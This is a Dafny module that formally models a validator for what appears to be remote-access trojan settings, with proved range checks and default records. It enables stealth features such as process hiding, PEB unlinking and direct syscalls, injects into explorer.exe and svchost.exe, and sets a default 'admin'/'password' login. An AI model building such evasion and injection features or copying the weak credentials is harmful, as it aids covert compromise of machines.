/** The typed configuration records of the validator, their range checks
    as error and warning lists, and the default records the validator's
    factories produce. */
module ConfigRecords {
  import opened Text

  datatype NetworkConfig = NetworkConfig(targetIP: string, targetPort: int,
                                         enableEncryption: bool, enableCompression: bool,
                                         timeoutMs: int, heartbeatIntervalMs: int)

  datatype StealthConfig = StealthConfig(enablePEBUnlinking: bool, enableThreadHiding: bool,
                                         enableProcessHiding: bool, enableMemoryEncryption: bool,
                                         enableNetworkObfuscation: bool, enableBehavioralMimicry: bool,
                                         enableTimingAttacks: bool, enableDirectSyscalls: bool)

  datatype ScreenSharingConfig = ScreenSharingConfig(quality: int, frameRate: int, compression: int,
                                                     enableEncryption: bool,
                                                     enableHardwareAcceleration: bool,
                                                     enableDirectMemoryAccess: bool)

  datatype AuthConfig = AuthConfig(username: string, password: string,
                                   enableSessionManagement: bool,
                                   sessionTimeoutMinutes: int, maxLoginAttempts: int)

  datatype ProcessInjectionConfig = ProcessInjectionConfig(targetProcesses: seq<string>,
                                                           enableCodeInjection: bool,
                                                           enableDLLInjection: bool,
                                                           enableThreadInjection: bool,
                                                           injectionTimeoutMs: int)

  datatype MemoryProtectionConfig = MemoryProtectionConfig(enableEncryption: bool, enableObfuscation: bool,
                                                           enableRandomization: bool,
                                                           enableSegmentation: bool,
                                                           enableVirtualization: bool,
                                                           encryptionLevel: int, obfuscationLevel: int)

  /** The `m_errors` and `m_warnings` lists a typed check leaves behind. */
  datatype Findings = Findings(errors: seq<string>, warnings: seq<string>)

  /** Number of '.' characters in `s`. */
  function CountDots(s: string): (n: nat)
    ensures n <= |s|
  {
    if s == [] then 0
    else CountDots(s[..|s| - 1]) + (if s[|s| - 1] == '.' then 1 else 0)
  }

  /** What IsValidIPAddress accepts: only digits and dots, exactly three dots. */
  predicate DottedDigits(ip: string)
  {
    (forall i :: 0 <= i < |ip| ==> IsDigit(ip[i]) || ip[i] == '.') && CountDots(ip) == 3
  }

  // The messages the typed checks push.
  const IpRequired := "Target IP address is required"
  const IpMalformed := "Invalid target IP address format"
  const PortRange := "Target port must be between 1 and 65535"
  const TimeoutRange := "Timeout should be between 1000ms and 60000ms"
  const HeartbeatRange := "Heartbeat interval should be between 1000ms and 30000ms"
  const NoStealth := "No stealth techniques are enabled"
  const QualityRange := "Quality must be between 1 and 100"
  const FrameRateRange := "Frame rate must be between 1 and 60"
  const CompressionRange := "Compression must be between 1 and 100"
  const UsernameRequired := "Username is required"
  const PasswordRequired := "Password is required"
  const PasswordShort := "Password should be at least 6 characters long"
  const SessionTimeoutRange := "Session timeout should be between 1 and 1440 minutes"
  const LoginAttemptsRange := "Max login attempts should be between 1 and 10"
  const NoTargets := "No target processes specified"
  const InjectionTimeoutRange := "Injection timeout should be between 1000ms and 30000ms"
  const EncryptionLevelRange := "Encryption level must be between 0 and 100"
  const ObfuscationLevelRange := "Obfuscation level must be between 0 and 100"

  function If(c: bool, msg: string): seq<string> { if c then [msg] else [] }

  function NetworkFindings(c: NetworkConfig): Findings
  {
    Findings(
      (if c.targetIP == [] then [IpRequired]
       else If(!DottedDigits(c.targetIP), IpMalformed))
      + If(c.targetPort < 1 || c.targetPort > 65535, PortRange),
      If(c.timeoutMs < 1000 || c.timeoutMs > 60000, TimeoutRange)
      + If(c.heartbeatIntervalMs < 1000 || c.heartbeatIntervalMs > 30000,
           HeartbeatRange))
  }

  function StealthFindings(c: StealthConfig): Findings
  {
    Findings([], If(!c.enablePEBUnlinking && !c.enableThreadHiding && !c.enableProcessHiding
                    && !c.enableMemoryEncryption, NoStealth))
  }

  function ScreenSharingFindings(c: ScreenSharingConfig): Findings
  {
    Findings(
      If(c.quality < 1 || c.quality > 100, QualityRange)
      + If(c.frameRate < 1 || c.frameRate > 60, FrameRateRange)
      + If(c.compression < 1 || c.compression > 100, CompressionRange),
      [])
  }

  function AuthFindings(c: AuthConfig): Findings
  {
    Findings(
      If(c.username == [], UsernameRequired) + If(c.password == [], PasswordRequired),
      If(c.password != [] && |c.password| < 6, PasswordShort)
      + If(c.sessionTimeoutMinutes < 1 || c.sessionTimeoutMinutes > 1440,
           SessionTimeoutRange)
      + If(c.maxLoginAttempts < 1 || c.maxLoginAttempts > 10, LoginAttemptsRange))
  }

  function ProcessInjectionFindings(c: ProcessInjectionConfig): Findings
  {
    Findings([],
      If(c.targetProcesses == [], NoTargets)
      + If(c.injectionTimeoutMs < 1000 || c.injectionTimeoutMs > 30000,
           InjectionTimeoutRange))
  }

  function MemoryProtectionFindings(c: MemoryProtectionConfig): Findings
  {
    Findings(
      If(c.encryptionLevel < 0 || c.encryptionLevel > 100, EncryptionLevelRange)
      + If(c.obfuscationLevel < 0 || c.obfuscationLevel > 100, ObfuscationLevelRange),
      [])
  }

  /** The network check passes iff the address is present and well formed
      and the port is in 1..65535; timeout and heartbeat only warn. */
  lemma NetworkCheckPasses(c: NetworkConfig)
    ensures NetworkFindings(c).errors == [] <==>
      c.targetIP != [] && DottedDigits(c.targetIP) && 1 <= c.targetPort <= 65535
    ensures |NetworkFindings(c).warnings| <= 2
  {
  }

  /** The screen-sharing check passes iff all three levels are in range,
      and it never warns. */
  lemma ScreenSharingCheckPasses(c: ScreenSharingConfig)
    ensures ScreenSharingFindings(c).errors == [] <==>
      1 <= c.quality <= 100 && 1 <= c.frameRate <= 60 && 1 <= c.compression <= 100
    ensures ScreenSharingFindings(c).warnings == []
  {
  }

  /** The authentication check fails only on an empty user name or password. */
  lemma AuthCheckPasses(c: AuthConfig)
    ensures AuthFindings(c).errors == [] <==> c.username != [] && c.password != []
  {
  }

  /** The memory-protection check passes iff both levels are in 0..100. */
  lemma MemoryProtectionCheckPasses(c: MemoryProtectionConfig)
    ensures MemoryProtectionFindings(c).errors == [] <==>
      0 <= c.encryptionLevel <= 100 && 0 <= c.obfuscationLevel <= 100
  {
  }

  // The default records (GenerateDefault*Config): each passes its own
  // check with no error and no warning.

  function GenerateDefaultNetworkConfig(): (c: NetworkConfig)
    ensures NetworkFindings(c) == Findings([], [])
  {
    DefaultAddressWellFormed();
    NetworkConfig(DefaultAddress, 8080, true, true, 5000, 5000)
  }

  function GenerateDefaultStealthConfig(): (c: StealthConfig)
    ensures StealthFindings(c) == Findings([], [])
  {
    StealthConfig(true, true, true, true, true, true, true, true)
  }

  function GenerateDefaultScreenSharingConfig(): (c: ScreenSharingConfig)
    ensures ScreenSharingFindings(c) == Findings([], [])
  {
    ScreenSharingConfig(80, 15, 80, true, false, false)
  }

  function GenerateDefaultAuthConfig(): (c: AuthConfig)
    ensures AuthFindings(c) == Findings([], [])
  {
    AuthConfig("admin", "password", true, 30, 3)
  }

  function GenerateDefaultProcessInjectionConfig(): (c: ProcessInjectionConfig)
    ensures ProcessInjectionFindings(c) == Findings([], [])
  {
    ProcessInjectionConfig(["explorer.exe", "svchost.exe"], true, false, true, 5000)
  }

  function GenerateDefaultMemoryProtectionConfig(): (c: MemoryProtectionConfig)
    ensures MemoryProtectionFindings(c) == Findings([], [])
  {
    MemoryProtectionConfig(true, true, true, false, false, 80, 60)
  }

  const DefaultAddress: string := "127.0.0.1"

  lemma DefaultAddressWellFormed()
    ensures DottedDigits(DefaultAddress)
  {
    var ip := DefaultAddress;
    forall k | 0 < k <= |ip|
      ensures CountDots(ip[..k]) == CountDots(ip[..k - 1]) + (if ip[k - 1] == '.' then 1 else 0)
    {
      assert ip[..k][..k - 1] == ip[..k - 1];
    }
    assert ip[..9] == ip;
    assert CountDots(ip[..1]) == 0 && CountDots(ip[..2]) == 0 && CountDots(ip[..3]) == 0;
    assert CountDots(ip[..4]) == 1 && CountDots(ip[..5]) == 1 && CountDots(ip[..6]) == 2;
    assert CountDots(ip[..7]) == 2 && CountDots(ip[..8]) == 3 && CountDots(ip) == 3;
  }
}
